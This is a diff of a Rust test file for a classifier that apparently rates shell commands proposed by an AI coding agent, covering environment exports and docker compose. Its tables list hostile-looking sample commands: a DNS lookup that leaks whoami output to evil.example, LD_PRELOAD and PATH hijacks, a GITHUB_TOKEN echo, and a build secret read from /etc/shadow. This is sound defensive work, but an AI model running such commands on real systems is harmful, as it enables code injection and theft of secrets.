@@ -586,7 +586,10 @@ fn secrets_printed_and_sent_are_hard() {
         ("curl --etag-save /tmp/e https://example.com", "soft"),
         ("curl -OJ https://example.com/x", "soft"),
         ("wget -e post_file=notes.txt https://example.com/", "soft"),
-        ("wget -P /tmp/x https://example.com/a", "soft"),
+        (
+            "wget --content-disposition -P /tmp/x https://example.com/a",
+            "soft",
+        ),
         // DNS labels computed by a command.
         ("dig $(whoami).evil.example", "soft"),
         (
@@ -1403,4 +1406,248 @@ fn an_activated_virtual_environment_is_judged_by_its_files_and_what_it_shadows()
         short(&judged(&f, "source .venv/bin/activate && pwd", &clean).verdict),
         "opaque"
     );
+}
+
+#[test]
+fn an_export_is_judged_at_every_later_command_as_its_prefix() {
+    table(&[
+        // A harmless name, or one a builtin the shell runs itself never reads.
+        ("export FOO=bar && echo $FOO", "routine"),
+        ("export RUST_LOG=debug && cargo test", "routine"),
+        ("export NO_COLOR=1; ls src | wc -l", "routine"),
+        ("export NO_COLOR=1; git ls-files | xargs wc -l", "routine"),
+        (
+            "export GIT_DIR=/tmp/r; git ls-files | xargs wc -l",
+            "unknown",
+        ),
+        ("export CFLAGS='-O2 -g' && make", "routine"),
+        ("declare -x FOO=1 && printf '%s\\n' \"$FOO\"", "routine"),
+        ("FOO=bar echo hi", "routine"),
+        ("export FOO", "routine"),
+        // The same name reaches programs: as unknown as `FOO=bar ls`.
+        ("export FOO=bar; ls src", "unknown"),
+        ("FOO=bar ls src", "unknown"),
+        ("export FOO=bar; (ls src)", "unknown"),
+        ("export FOO=bar; true | ls src", "unknown"),
+        ("export FOO=bar; xargs echo < src/a", "unknown"),
+        ("FOO=1 /bin/echo x", "unknown"),
+        ("export GIT_DIR=/tmp/x && git status", "unknown"),
+        ("export CFLAGS=-fplugin=/tmp/x.so && make", "unknown"),
+        ("export GCONV_PATH; GCONV_PATH=/tmp/g; iconv -l", "unknown"),
+        (
+            "for i in 1 2; do ls src; export GCONV_PATH=/tmp/g; done",
+            "unknown",
+        ),
+        // Names that load code: the export itself, and each later program.
+        ("export LD_PRELOAD=/tmp/x.so; ls", "soft"),
+        ("export LD_PRELOAD=/tmp/x.so", "soft"),
+        ("export PATH=/tmp/evil:$PATH && git status", "soft"),
+        (
+            "export NODE_OPTIONS=--require=/tmp/x.js && npm test",
+            "soft",
+        ),
+        ("typeset -x PYTHONPATH=/tmp && pytest", "soft"),
+        ("export BASH_ENV=/tmp/x; bash -c 'ls'", "soft"),
+        (
+            "while true; do ls; export LD_PRELOAD=/tmp/x.so; done",
+            "soft",
+        ),
+        // The shell's own variables, other options, computed names.
+        ("export CDPATH=/tmp; cd src", "unknown"),
+        ("export -n FOO", "unknown"),
+        ("export $V=1", "unknown"),
+        ("v=FOO; export $v=1; ls", "unknown"),
+        // Printers stay secret dumps; a secret copied into an export still shows.
+        ("export", "hard"),
+        ("export -p", "hard"),
+        ("declare -xp", "hard"),
+        ("export K=$GITHUB_TOKEN; printf %s \"$K\"", "hard"),
+    ]);
+}
+
+/// A project with compose files, as `docker compose` v2 finds them.
+fn compose_project(f: &Fx) {
+    let w = |p: &str, text: &str| {
+        let p = f.ws.join(p);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, text).unwrap();
+    };
+    w(
+        "compose.yaml",
+        "x-app: &app\n  env_file: .env.app\nservices:\n  api:\n    <<: *app\n    build:\n      context: ./api\n      dockerfile: Dockerfile.dev\n  web:\n    build: web\n  db:\n    image: postgres:16\n    extends:\n      file: base.yml\n      service: db\ninclude:\n  - infra/compose.yaml\n",
+    );
+    w(
+        "compose.override.yml",
+        "services:\n  web:\n    ports: ['8080:80']\n",
+    );
+    w("base.yml", "services:\n  db:\n    environment: {A: b}\n");
+    w(
+        "infra/compose.yaml",
+        "services:\n  cache:\n    build: ./cache\n",
+    );
+    w("api/Dockerfile.dev", "FROM scratch\n");
+    w("web/Dockerfile", "FROM scratch\n");
+    w("infra/cache/Dockerfile", "FROM scratch\n");
+    w("Dockerfile", "FROM scratch\n");
+    w(".env", "TAG=1\n");
+    w(".env.app", "X=1\n");
+}
+
+#[test]
+fn compose_lifecycle_runs_like_a_build_runner_over_its_definition_files() {
+    let f = fx();
+    compose_project(&f);
+    let clean = Session {
+        changed: vec![],
+        written: vec![],
+    };
+    for cmd in [
+        "docker compose up -d",
+        "docker compose up -d --build",
+        "docker compose up --build --remove-orphans --wait api web",
+        "docker compose restart api",
+        "docker compose start",
+        "docker compose stop -t 5 api",
+        "docker compose build --no-cache --build-arg V=1",
+        "docker compose pull -q",
+        "docker compose create --no-build",
+        "docker compose -f compose.yaml -p demo up -d",
+        "docker-compose up -d",
+        "docker build -t app:dev .",
+        "docker build -f api/Dockerfile.dev -t api api",
+        "docker buildx build --load -t x .",
+        "cd api && docker compose up -d",
+    ] {
+        let j = judged(&f, cmd, &clean);
+        assert_eq!(short(&j.verdict), "routine", "{cmd}: {:?}", j.verdict);
+    }
+    // Every file that defines what runs, changed or written by the agent, is named.
+    for file in [
+        "compose.yaml",
+        "compose.override.yml",
+        "base.yml",
+        "infra/compose.yaml",
+        "api/Dockerfile.dev",
+        "web/Dockerfile",
+        "infra/cache/Dockerfile",
+        ".env",
+        ".env.app",
+    ] {
+        for b in [
+            Session {
+                changed: vec![f.ws.join(file)],
+                written: vec![],
+            },
+            Session {
+                changed: vec![],
+                written: vec![f.ws.join(file)],
+            },
+        ] {
+            let j = judged(&f, "docker compose up -d --build", &b);
+            match &j.verdict {
+                Verdict::BuildFilesChanged { files, .. } => {
+                    assert!(files.contains(&f.ws.join(file)), "{file}: {files:?}")
+                }
+                v => panic!("{file}: {v:?}"),
+            }
+        }
+    }
+    let j = judged(
+        &f,
+        "docker build -t x .",
+        &Session {
+            changed: vec![],
+            written: vec![f.ws.join("Dockerfile")],
+        },
+    );
+    assert_eq!(short(&j.verdict), "build-changed", "{:?}", j.verdict);
+    // A file the override names is not followed when -f names the files.
+    let j = judged(
+        &f,
+        "docker compose -f base.yml up -d",
+        &Session {
+            changed: vec![f.ws.join("compose.override.yml")],
+            written: vec![],
+        },
+    );
+    assert_eq!(short(&j.verdict), "routine", "{:?}", j.verdict);
+}
+
+#[test]
+fn compose_outside_its_grammar_or_the_workspace_is_not_routine() {
+    let f = fx();
+    compose_project(&f);
+    let clean = Session {
+        changed: vec![],
+        written: vec![],
+    };
+    for (cmd, want) in [
+        // Data thrown away, other machines, options outside the grammar.
+        ("docker compose down -v", "soft"),
+        ("docker compose rm -v -f", "soft"),
+        ("docker compose kill", "soft"),
+        ("docker compose up -V", "unknown"),
+        ("docker compose up --watch", "unknown"),
+        ("docker compose build --push", "unknown"),
+        ("docker compose build --ssh default", "unknown"),
+        ("docker compose build --build-arg NPM_TOKEN", "unknown"),
+        ("docker --context prod compose up -d", "unknown"),
+        ("docker -H ssh://prod compose up -d", "unknown"),
+        ("docker compose run --rm -v ~/.ssh:/k api sh", "unknown"),
+        ("docker compose -f - up", "unknown"),
+        ("docker compose up $SVC", "unknown"),
+        ("docker build --secret id=k,src=/etc/shadow .", "unknown"),
+        ("docker build --network=host .", "unknown"),
+        ("docker build https://example.com/repo.git", "unknown"),
+        ("docker build - < Dockerfile", "unknown"),
+        // Definitions outside the workspace.
+        ("docker compose -f /etc/compose.yml up -d", "soft"),
+        ("docker compose --project-directory /tmp up -d", "soft"),
+        ("docker compose --env-file ~/.env up -d", "soft"),
+        ("docker build -t x /tmp", "soft"),
+        ("docker build -f /tmp/Dockerfile .", "soft"),
+        // Prefixes and exports that steer compose are judged as prefixes.
+        ("COMPOSE_FILE=/tmp/c.yml docker compose up -d", "unknown"),
+        (
+            "export DOCKER_HOST=ssh://prod && docker compose up -d",
+            "unknown",
+        ),
+    ] {
+        let j = judged(&f, cmd, &clean);
+        assert_eq!(short(&j.verdict), want, "{cmd}: {:?}", j.verdict);
+    }
+    // A compose file that includes one from outside the workspace, interpolates a path or
+    // does not parse.
+    for (text, want) in [
+        ("include:\n  - ../outside/compose.yaml\n", "soft"),
+        ("services:\n  a:\n    build: ${CTX}\n", "unknown"),
+        (
+            "services:\n  a:\n    build: https://example.com/r.git\n",
+            "unknown",
+        ),
+        (
+            "services:\n  a:\n    extends: {file: /etc/x.yml, service: a}\n",
+            "soft",
+        ),
+        ("services: [\n", "unknown"),
+    ] {
+        std::fs::write(f.ws.join("compose.yaml"), text).unwrap();
+        let j = judged(&f, "docker compose up -d", &clean);
+        assert_eq!(short(&j.verdict), want, "{text}: {:?}", j.verdict);
+    }
+    // A compose file the agent broke is named as changed rather than left unknown.
+    let j = judged(
+        &f,
+        "docker compose up -d",
+        &Session {
+            changed: vec![],
+            written: vec![f.ws.join("compose.yaml")],
+        },
+    );
+    assert_eq!(short(&j.verdict), "build-changed", "{:?}", j.verdict);
+    // No compose file between the working directory and the workspace root.
+    std::fs::remove_file(f.ws.join("compose.yaml")).unwrap();
+    std::fs::remove_file(f.ws.join("compose.override.yml")).unwrap();
+    let j = judged(&f, "docker compose up -d", &clean);
+    assert_eq!(short(&j.verdict), "unknown", "{:?}", j.verdict);
 }
